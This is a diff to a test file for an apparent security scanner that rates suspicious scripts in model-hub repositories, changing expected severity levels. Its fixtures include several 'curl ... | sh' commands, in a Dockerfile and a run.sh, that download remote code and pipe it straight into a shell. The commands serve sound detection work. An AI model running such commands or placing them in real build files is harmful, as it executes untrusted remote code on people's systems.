@@ -50,7 +50,14 @@ def test_harmless_look_alikes(text: str) -> None:
 
 def test_a_space_builds_itself_on_the_hub() -> None:
     snapshot = repository({"Dockerfile": "RUN curl http://198.51.101.7/a | sh\n"}, "spaces/org/model")
-    assert severities("script-suspicious", snapshot) == ["low"]
+    assert severities("script-suspicious", snapshot) == ["medium"]
+    tool = repository({"Dockerfile": "RUN curl -fsSL https://tool.invalid/install | sh\n"}, "spaces/org/model")
+    assert severities("script-suspicious", tool) == ["low"]
+
+
+def test_an_address_for_documents_is_one_like_any_other_to_a_program() -> None:
+    for address in ("http://203.0.113.9/a", "https://example.com/a"):
+        assert severities("script-suspicious", repository({"run.sh": f"curl {address} | sh\n"})) == ["high"]
 
 
 def test_notebook_cells() -> None:
